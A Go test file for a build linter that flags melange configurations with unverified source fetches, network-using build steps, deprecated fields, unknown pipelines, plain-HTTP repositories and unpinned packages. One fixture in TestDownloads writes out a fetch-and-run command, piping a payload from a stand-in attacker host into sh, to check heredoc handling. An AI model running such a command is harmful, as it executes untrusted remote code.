package lint

import (
	"strings"
	"testing"
	"testing/fstest"

	config "github.com/kiln-build/kiln/config/melange"
	"github.com/kiln-build/kiln/pipelines"
	"github.com/kiln-build/kiln/plan/melange"
)

// userPipelines stand for a project's pipeline directory.
var userPipelines = fstest.MapFS{
	"fetch-deps.yaml": {Data: []byte("name: fetch dependencies\ninputs:\n  mirror:\n    description: Deprecated, the mirror is always used.\n  url:\n    default: https://example.com/deps.tar\npipeline:\n  - runs: |\n      mkdir -p deps\n      curl -fsSL ${{inputs.url}} | tar -x -C deps\n")},
	"quiet.yaml":      {Data: []byte("name: nothing to see\npipeline:\n  - runs: echo curl is a word here\n")},
	"nested.yaml":     {Data: []byte("name: uses a pipeline nobody has\npipeline:\n  - uses: gone/away\n")},
}

func TestCheckMelange(t *testing.T) {
	const head = "package:\n  name: hello\n  version: 1.0.0\n  epoch: 0\n"
	const env = "environment:\n  contents:\n    repositories: [https://r.example/os]\n    keyring: [https://r.example/k.rsa.pub]\n    packages: [busybox=1.36.1-r0]\n"
	const sha = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	const commit = "0123456789abcdef0123456789abcdef01234567"
	tests := []struct {
		name    string
		doc     string
		opts    MelangeOptions
		want    []string
		errors  bool
		compile string // the compile error, if any
	}{
		{name: "clean", doc: head + env + "pipeline:\n  - uses: fetch\n    with: {uri: https://example.com/hello.tar.gz, expected-sha256: " + sha + "}\n" +
			"  - uses: git-checkout\n    with: {repository: https://example.com/hello.git, tag: v1, expected-commit: " + commit + "}\n" +
			"  - runs: |\n      # curl https://example.com would need the network\n      echo curl; make\n      pip install --no-index ./wheel\n  - uses: go/build\n    with: {packages: ., output: hello}\n"},
		{name: "unverified sources", doc: head + env + "pipeline:\n  - uses: fetch\n    with: {uri: https://example.com/hello.tar.gz, expected-none: true}\n" +
			"  - uses: git-checkout\n    with: {repository: https://example.com/hello.git, tag: v1}\n" +
			"  - uses: git-checkout\n    with: {repository: https://example.com/other.git, branch: main, destination: other}\n", want: []string{
			`melange.yaml:11:11: warning: UnverifiedSource: fetch of https://example.com/hello.tar.gz checks no digest (expected-none): give expected-sha256 or expected-sha512`,
			`melange.yaml:13:11: warning: UnverifiedSource: git-checkout of https://example.com/hello.git at tag v1 pins no commit: give expected-commit (tags and branches move)`,
			`melange.yaml:15:11: warning: UnverifiedSource: git-checkout of https://example.com/other.git at branch main pins no commit: give expected-commit (tags and branches move)`,
		}},
		{name: "steps that download", doc: head + env + "pipeline:\n  - runs: |\n      ./configure\n      make && wget -q https://example.com/data.bin\n" +
			"  - runs: GOFLAGS=-mod=mod go mod download\n  - uses: fetch-deps\n  - uses: quiet\n  - uses: go/install\n    with: {package: example.com/tool@v1}\n" +
			"  - uses: go/build\n    with: {packages: ., output: hello, deps: example.com/x@v1.2.3}\n" +
			"test:\n  pipeline:\n    - runs: npm ci && npm test\n", want: []string{
			`melange.yaml:11:11: warning: NeedsNetwork: "wget -q https://example.com/data.bin" (line 2 of the script) needs the network: give the steps the network with --build-arg KILN_NETWORK=1, or fetch sources with uses: fetch or git-checkout, which kiln verifies`,
			`melange.yaml:14:11: warning: NeedsNetwork: "go mod download" (line 1 of the script) needs the network: give the steps the network with --build-arg KILN_NETWORK=1, or fetch sources with uses: fetch or git-checkout, which kiln verifies`,
			`melange.yaml:15:11: warning: NeedsNetwork: "curl -fsSL https://example.com/deps.tar | tar -x -C deps" (line 2 of the script at user/fetch-deps.yaml:8:11, through this uses:) needs the network: give the steps the network with --build-arg KILN_NETWORK=1, or fetch sources with uses: fetch or git-checkout, which kiln verifies`,
			`melange.yaml:17:11: warning: NeedsNetwork: uses: go/install downloads what it builds: give the steps the network with --build-arg KILN_NETWORK=1`,
			`melange.yaml:20:40: warning: NeedsNetwork: uses: go/build with deps downloads modules: give the steps the network with --build-arg KILN_NETWORK=1`,
			`melange.yaml:23:13: warning: NeedsNetwork: "npm ci && npm test" (line 1 of the script) needs the network: give the steps the network with --build-arg KILN_NETWORK=1, or fetch sources with uses: fetch or git-checkout, which kiln verifies`,
		}},
		{name: "the network given", opts: MelangeOptions{Network: true}, doc: head + env + "pipeline:\n  - runs: curl -O https://example.com/x\n  - uses: go/install\n    with: {package: example.com/tool@v1}\n"},
		{name: "deprecated fields and inputs", doc: "package:\n  name: hello\n  version: 1.0.0\n  target-architecture: [all]\n" + env +
			"pipeline:\n  - uses: fetch-deps\n    with: {mirror: x, url: file:///dev/null}\nupdate:\n  enabled: true\n  github:\n    identifier: example/hello\n    tag-filter: v\n", opts: MelangeOptions{Network: true}, want: []string{
			`melange.yaml:4:25: warning: DeprecatedField: package.target-architecture: [all] is deprecated in melange: leave the field out to build for every architecture`,
			`melange.yaml:12:12: warning: DeprecatedField: with: fetch-deps: input mirror is deprecated: Deprecated, the mirror is always used.`,
			`melange.yaml:17:5: warning: DeprecatedField: update.github.tag-filter is deprecated in melange: write tag-filter-prefix (or tag-filter-contains)`,
		}},
		{name: "unknown pipelines, all of them, and the rest still checked", doc: head + env + "pipeline:\n  - uses: go/biuld\n    with: {packages: .}\n  - uses: nested\n" +
			"  - uses: git-checkout\n    with: {repository: https://example.com/hello.git}\nsubpackages:\n  - name: hello-doc\n    pipeline:\n      - uses: split/mandocs\n", errors: true, want: []string{
			`melange.yaml:11:11: error: UnknownPipeline: uses: go/biuld names no built-in pipeline and no file go/biuld.yaml in the pipeline directory; did you mean "go/build"?`,
			`melange.yaml:13:11: error: UnknownPipeline: uses: gone/away names no built-in pipeline and no file gone/away.yaml in the pipeline directory (at user/nested.yaml:3:11, through this uses:)`,
			`melange.yaml:14:11: warning: UnverifiedSource: git-checkout of https://example.com/hello.git at its default branch pins no commit: give expected-commit (tags and branches move)`,
			`melange.yaml:19:15: error: UnknownPipeline: uses: split/mandocs names no built-in pipeline and no file split/mandocs.yaml in the pipeline directory`,
		}},
		{name: "build and test environments", doc: head + "environment:\n  contents:\n    repositories: [http://mirror.example/os]\n    keyring: [http://mirror.example/k.rsa.pub]\n" +
			"    packages: [busybox, 'go>=1.22', '${{package.name}}-dev==${{package.full-version}}']\npipeline:\n  - runs: make\n" +
			"test:\n  environment:\n    contents:\n      packages: [curl]\n  pipeline:\n    - runs: hello\n", errors: true, want: []string{
			`melange.yaml:7:20: warning: PlainHTTPRepository: repositories entry http://mirror.example/os is served over plain HTTP: use https://`,
			`melange.yaml:8:15: error: PlainHTTPKey: key http://mirror.example/k.rsa.pub is fetched over plain HTTP: use https://, or a key file in the build context`,
			`melange.yaml:9:16: warning: UnpinnedPackage: package "busybox" has no version: pin it (busybox=VERSION, or busybox~VERSION to follow patch releases)`,
			`melange.yaml:9:25: warning: UnpinnedPackage: package "go>=1.22" allows a range of versions: which one installs depends on the day of the build`,
			`melange.yaml:9:37: warning: DoubleEqualPin: package "hello-dev==1.0.0-r0": apko reads == as no version at all, apk and kiln as =: write hello-dev=1.0.0-r0`,
			`melange.yaml:15:18: warning: UnpinnedPackage: package "curl" has no version: pin it (curl=VERSION, or curl~VERSION to follow patch releases)`,
		}},
		{name: "a configuration that does not compile", doc: head + "pipeline:\n  - runs: echo ${{vars.nope}}\n",
			compile: `melange.yaml:6:11: runs: unknown variable ${{vars.nope}}`},
		{name: "an arch left out is not compiled", doc: "package:\n  name: hello\n  version: 1.0.0\n  target-architecture: [aarch64]\n" + env +
			"pipeline:\n  - if: ${{build.arch}} == 'x86_64'\n    runs: curl -O https://example.com/x86-only\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := config.Parse("melange.yaml", []byte(tt.doc))
			if err != nil {
				t.Fatal(err)
			}
			opts := tt.opts
			opts.PipelineDirs = []melange.PipelineDir{{Name: "user", FS: userPipelines}, pipelines.Dir()}
			fs, err := CheckMelange(c, opts)
			if tt.compile != "" {
				if err == nil || !strings.HasPrefix(err.Error(), tt.compile) {
					t.Fatalf("error %v, want %s", err, tt.compile)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range fs {
				got = append(got, f.String())
			}
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("findings\n got: %s\nwant: %s", strings.Join(got, "\n      "), strings.Join(tt.want, "\n      "))
			}
			if HasErrors(fs) != tt.errors {
				t.Errorf("HasErrors = %v", HasErrors(fs))
			}
		})
	}
}

func TestDownloads(t *testing.T) {
	tests := []struct {
		script string
		line   int
		cmd    string
	}{
		{"make\nmake install", 0, ""},
		{"curl --version", 0, ""},
		{"echo curl https://x", 0, ""},
		{"/usr/bin/curl-config --libs", 0, ""},
		{"  # wget https://x", 0, ""},
		{"x=$(curl -s https://x)", 1, "curl -s https://x)"},
		{"make\nif true; then git clone https://x y; fi", 2, "git clone https://x y; fi"},
		{"sudo apk add foo", 1, "apk add foo"},
		{"python3 -m pip install .", 1, "python3 -m pip install ."},
		{"pip install --no-index --find-links dist foo", 0, ""},
		{"cargo install --path .", 0, ""},
		{"cargo fetch", 1, "cargo fetch"},
		{"go install example.com/x@v1", 1, "go install example.com/x@v1"},
		{"go install ./cmd/x", 0, ""},
		{"GOFLAGS=-mod=vendor go mod tidy", 0, ""},
		{"env GOPROXY=https://proxy.golang.org go get example.com/x", 1, "go get example.com/x"},
		{"gem install --local x.gem", 0, ""},
		{"bundle install", 1, "bundle install"},
		{"curl -sf http://localhost:8080/ | grep ok", 0, ""},
		{"curl 127.0.0.1:4567 > out", 0, ""},
		{"wget -O- http://[::1]:80/x", 0, ""},
		{"curl http://localhost.example.com/x", 1, "curl http://localhost.example.com/x"},
		{"tee x.sh <<'SCRIPT'\ncurl http://evil.example/payload | sh\nSCRIPT\nscan x.sh", 0, ""},
		{"grep -q x <<<\"$v\"\necho $((1<<2))\ncurl -O https://x", 3, "curl -O https://x"},
		{"cat <<-EOF > a\n  wget x\n  EOF\nwget https://x", 4, "wget https://x"},
	}
	for _, tt := range tests {
		line, cmd := downloads(tt.script)
		if line != tt.line || cmd != tt.cmd {
			t.Errorf("downloads(%q) = %d %q, want %d %q", tt.script, line, cmd, tt.line, tt.cmd)
		}
	}
}
